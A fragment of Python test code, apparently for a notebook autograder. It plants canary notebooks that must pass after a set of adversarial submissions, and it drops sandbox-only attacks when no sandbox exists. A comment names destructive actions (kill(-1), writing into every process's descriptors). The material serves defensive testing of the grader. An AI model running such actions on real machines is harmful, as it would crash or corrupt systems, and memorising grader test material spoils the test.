        _write(submitted, f"zz_canary_{i}", HW, _with_target(root, canary))
        attack(f"zz_canary_{i}", "harm", "a correct notebook graded after the attacks; it fails if anything was "
               "left behind for it", "full", never=("POISONED",))
    if not sandboxed:
        # Never even written without the sandbox: unconfined, kill(-1) or writing into every
        # descriptor of every process would hit the machine running the tests.
        for a in ATTACKS:
            if a.sandbox_only:
                shutil.rmtree(submitted / a.sid, ignore_errors=True)
    return [a for a in ATTACKS if sandboxed or not a.sandbox_only]
